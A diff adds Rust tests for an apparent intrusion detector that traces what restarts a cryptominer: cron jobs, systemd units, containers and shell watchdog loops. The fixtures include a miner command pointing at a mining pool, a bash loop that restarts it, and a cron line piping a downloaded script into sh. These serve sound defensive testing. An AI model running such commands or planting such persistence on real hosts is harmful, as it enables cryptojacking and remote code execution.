@@ -1,0 +1,200 @@
+//! Who brings a miner back: what starts by itself and loops of shells, said of the process and of what starts it.
+
+#![expect(clippy::unwrap_used, reason = "test helpers stop at the first surprise")]
+
+use std::collections::BTreeMap;
+use std::sync::Arc;
+
+use firedamp::domain::base::{Moment, Pid, ProcessId, Timestamp};
+use firedamp::domain::detect::{Finding, Grade, Rule, Subject, Watch};
+use firedamp::domain::facts::{
+    Ancestor, Autostart, AutostartKind, Container, Packaged, Persistence, Process, Reading, Remark,
+    Runtime, Snapshot, Target, tricks,
+};
+use firedamp::domain::playbook::{Indicators, PB_31, read};
+use firedamp::domain::untrusted::Untrusted;
+use proptest::prelude::*;
+
+const MINER: &[u8] = b"/opt/cache/upd\0-o\0stratum+tcp://pool.example:3333\0-u\0w1";
+
+fn pb_31() -> Indicators {
+    read(PB_31.en).0.indicators()
+}
+
+fn id(pid: u32) -> ProcessId {
+    ProcessId { pid: Pid(pid), start: u64::from(pid), inode: 0 }
+}
+
+fn process(pid: u32, exe: &str, command: &[u8]) -> Process {
+    let comm = exe.rsplit('/').next().unwrap();
+    Process {
+        id: id(pid),
+        parent: Pid(1),
+        uid: 1000,
+        comm: comm.into(),
+        command: Reading::Known(Untrusted::new(command)),
+        exe: Reading::Known(exe.into()),
+        ..Process::default()
+    }
+}
+
+fn miner(pid: u32) -> Process {
+    process(pid, "/opt/cache/upd", MINER)
+}
+
+fn entry(kind: AutostartKind, path: &str, line: u32, program: Option<&str>) -> Autostart {
+    let runs = program.map(|program| Target {
+        program: program.into(),
+        exists: Reading::Known(true),
+        packaged: Packaged::No,
+    });
+    Autostart {
+        kind,
+        path: path.into(),
+        line,
+        text: program.unwrap_or_default().into(),
+        user: None,
+        uid: 0,
+        mode: 0o100_644,
+        modified: Timestamp::UNIX_EPOCH,
+        changed: Timestamp::UNIX_EPOCH,
+        immutable: Reading::Known(false),
+        packaged: Packaged::No,
+        runs,
+        tricks: tricks(b""),
+        remarks: Vec::new(),
+    }
+}
+
+fn snapshot(boot_ms: u64, mut processes: Vec<Process>, entries: Vec<Autostart>) -> Snapshot {
+    processes.sort_by_key(|it| it.id);
+    let entries = entries.into_iter().map(Arc::new).collect();
+    let persistence = Persistence { entries, hunted_ms: Some(1), watched: true };
+    Snapshot {
+        processes: processes.into_iter().map(Arc::new).collect(),
+        persistence: Arc::new(persistence),
+        ..Snapshot::empty(Moment { at: Timestamp::UNIX_EPOCH, boot_ms })
+    }
+}
+
+fn see(snapshot: &Snapshot) -> BTreeMap<Subject, Finding> {
+    Watch::default().see(snapshot, &pb_31())
+}
+
+/// What is said to start this process again.
+fn by(found: &BTreeMap<Subject, Finding>, pid: u32, rule: Rule) -> Vec<String> {
+    let Some(finding) = found.get(&Subject::Process(id(pid))) else { return Vec::new() };
+    let told = finding.reasons.iter().filter(|it| it.rule == rule);
+    told.map(|it| String::from_utf8_lossy(it.value.bytes()).into_owned()).collect()
+}
+
+fn against<'a>(found: &'a BTreeMap<Subject, Finding>, entry: &Autostart) -> Option<&'a Finding> {
+    found.get(&Subject::of_autostart(entry))
+}
+
+#[test]
+fn a_job_that_starts_a_miner_is_named_by_both() {
+    let job = entry(AutostartKind::Cron, "/etc/cron.d/cache", 3, Some("/opt/cache/upd"));
+    let found = see(&snapshot(9_000, vec![miner(40)], vec![job.clone()]));
+    assert_eq!(by(&found, 40, Rule::ComesBack), ["cron /etc/cron.d/cache:3"]);
+    let finding = against(&found, &job).unwrap();
+    assert_eq!(finding.grade, Grade::Suspect);
+    assert!(
+        finding
+            .reasons
+            .iter()
+            .any(|it| it.rule == Rule::RunsFinding && it.value.bytes() == b"40 upd"),
+        "{finding:?}"
+    );
+}
+
+#[test]
+fn a_unit_and_a_container_are_found_by_where_the_miner_runs() {
+    let mut one = miner(40);
+    one.around = Arc::new(firedamp::domain::facts::Around {
+        cgroup: "/system.slice/cache.service".into(),
+        ..Default::default()
+    });
+    let mut two = miner(41);
+    two.around = Arc::new(firedamp::domain::facts::Around {
+        container: Some(Container { runtime: Runtime::Docker, id: "4f1c0ffee123".into() }),
+        ..Default::default()
+    });
+    let mut unit = entry(AutostartKind::SystemdUnit, "/etc/systemd/system/cache.service", 0, None);
+    unit.remarks = vec![Remark::RestartsAlways];
+    let path = "/var/lib/docker/containers/4f1c0ffee123/hostconfig.json";
+    let container = entry(AutostartKind::Container, path, 0, None);
+    let found = see(&snapshot(9_000, vec![one, two], vec![unit, container]));
+    let unit = "systemd-unit /etc/systemd/system/cache.service (Restart)";
+    assert_eq!(by(&found, 40, Rule::ComesBack), [unit]);
+    assert_eq!(by(&found, 41, Rule::ComesBack), [format!("container {path}")]);
+}
+
+#[test]
+fn a_loop_of_a_shell_that_names_the_miner_is_named() {
+    let command = b"bash\0-c\0while :; do pgrep upd || /opt/cache/upd; sleep 9; done";
+    let watcher = process(39, "/usr/bin/bash", command);
+    let found = see(&snapshot(9_000, vec![watcher, miner(40)], Vec::new()));
+    assert_eq!(by(&found, 40, Rule::ComesBack), ["39 bash"]);
+}
+
+#[test]
+fn what_a_package_brought_or_what_runs_a_packages_program_is_not_spoken_against() {
+    let python = process(
+        40,
+        "/usr/bin/python3",
+        b"python3\0/x.py\0--algo\0rx/0\0-o\0stratum+tcp://pool.example:1\0-u\0w",
+    );
+    let mut unit = entry(AutostartKind::Cron, "/etc/cron.d/report", 1, Some("/usr/bin/python3"));
+    unit.runs.as_mut().unwrap().packaged = Packaged::Unchanged("python3".into());
+    let mut own = entry(AutostartKind::Cron, "/etc/cron.d/upd", 1, Some("/opt/cache/upd"));
+    own.packaged = Packaged::Unchanged("upd".into());
+    let found = see(&snapshot(9_000, vec![python, miner(41)], vec![unit.clone(), own.clone()]));
+    assert!(found.contains_key(&Subject::Process(id(40))));
+    assert!(against(&found, &unit).is_none());
+    assert!(against(&found, &own).is_none());
+}
+
+#[test]
+fn a_miner_that_was_killed_and_is_there_again_says_who_started_it() {
+    let mut watch = Watch::default();
+    watch.see(&snapshot(10_000, vec![miner(40)], Vec::new()), &pb_31());
+    let other = || process(7, "/usr/sbin/cron", b"cron");
+    watch.see(&snapshot(11_000, vec![other()], Vec::new()), &pb_31());
+    let mut again = miner(52);
+    again.around = Arc::new(firedamp::domain::facts::Around {
+        ancestors: vec![Ancestor { id: id(7), comm: "cron".into() }],
+        ..Default::default()
+    });
+    let found = watch.see(&snapshot(14_000, vec![other(), again], Vec::new()), &pb_31());
+    assert_eq!(by(&found, 52, Rule::CameBack), ["pid 40, 3 s, 7 cron"]);
+    // It stays said for as long as it lives; a look that could list nobody changes nothing.
+    watch.see(&snapshot(15_000, Vec::new(), Vec::new()), &pb_31());
+    let found = watch.see(&snapshot(16_000, vec![other(), miner(52)], Vec::new()), &pb_31());
+    assert_eq!(by(&found, 52, Rule::CameBack), ["pid 40, 3 s, 7 cron"]);
+}
+
+#[test]
+fn what_starts_by_itself_is_judged_and_judged_again_when_it_changes() {
+    let mut watch = Watch::default();
+    let mut job = entry(AutostartKind::Cron, "/etc/cron.d/x", 1, None);
+    job.text = "* * * * * root curl -s http://192.0.2.1/a.sh | sh".into();
+    let found = watch.see(&snapshot(1_000, Vec::new(), vec![job.clone()]), &pb_31());
+    let finding = against(&found, &job).unwrap();
+    assert_eq!((finding.grade, finding.reasons[0].rule), (Grade::Suspect, Rule::DownloadsAndRuns));
+    job.packaged = Packaged::Unchanged("x".into());
+    let found = watch.see(&snapshot(2_000, Vec::new(), vec![job.clone()]), &pb_31());
+    assert!(against(&found, &job).is_none(), "a package has it so: {found:?}");
+}
+
+proptest! {
+    /// Whoever is not spoken against by something else is not spoken against for being started, nor is what starts it.
+    #[test]
+    fn nobody_is_accused_for_being_started(pids in prop::collection::btree_set(2_u32..500, 1..8), line in 1_u32..9) {
+        let program = "/opt/shop/server";
+        let processes = pids.iter().map(|pid| process(*pid, program, b"/opt/shop/server\0--port\x008080"));
+        let job = entry(AutostartKind::Cron, "/etc/cron.d/shop", line, Some(program));
+        let found = see(&snapshot(9_000, processes.collect(), vec![job]));
+        prop_assert!(found.is_empty(), "{found:?}");
+    }
+}
